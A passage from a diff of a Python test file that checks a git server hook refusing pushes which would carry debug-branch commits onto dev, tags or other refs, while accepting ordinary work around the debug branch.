+    dev, probe = repo.sha("dev"), hack(repo)
+    refspecs = {
+        "fast-forward": [f"{probe}:refs/heads/dev"],
+        "new-feature": [f"{probe}:refs/heads/feature-renamed"],
+        "tag": [f"{probe}:refs/tags/probe"],
+        "merge-request-ref": [f"{probe}:refs/merge-requests/7/head"],
+        "debug-deleted-meanwhile": [f":refs/heads/{DEBUG}", f"{probe}:refs/heads/dev"],
+    }.get(route)
+    if route == "annotated-tag":
+        repo.git("tag", "-a", "-m", "probe", "probe", probe)
+        refspecs = ["refs/tags/probe"]
+    elif route == "feature-on-top":
+        on_top = craft(repo, [probe], "feat: build on the probe", {"src/more.py": "more = 1\n"})
+        refspecs = [f"{on_top}:refs/heads/feature-probe"]
+    assert refspecs
+    result = push(repo, *refspecs)
+    refused_with(result, "debug-leak")
+    assert w.server_sha("refs/heads/dev") == dev
+
+
+def test_debug_routes_refused_today(w: World) -> None:
+    """dev fast-forwarded onto the debug run (its folder is a debug path); dev moved by a merge
+    whose first parent is the debug hack (the merge of dev's old tip is seen)."""
+    repo = w.work
+    dev = repo.sha("dev")
+    refused_with(push(repo, f"{repo.sha(DEBUG)}:refs/heads/dev"), "debug-leak")
+    merge = merge_commit(repo, hack(repo), dev, "Merge branch 'dev' into feature-probe")
+    refused_with(push(repo, f"{merge}:refs/heads/dev"), "debug-leak")
+    assert w.server_sha("refs/heads/dev") == dev
+
+
+def test_honest_work_around_a_debug_branch_is_accepted(w: World) -> None:
+    """The debug branch itself moves on; a feature starts from dev, whose commits the debug branch
+    also holds; a new branch points at such a commit; the hack redone as a new commit on a
+    feature (the server cannot know it was a debug hack)."""
+    repo = w.work
+    dev = repo.sha("dev")
+    run = craft(repo, [repo.sha(DEBUG)], "chore: probe run 2", {f"tasks/{DEBUG}/log2.txt": "loss 8.8\n"})
+    feature = craft(repo, [dev], "feat: probe as a feature", {"src/probe.py": "PROBE = True\n"})
+    refspecs = [f"{run}:refs/heads/{DEBUG}", f"{feature}:refs/heads/feature-probe", f"{dev}:refs/heads/feature-empty"]
+    accepted(push(repo, *refspecs))
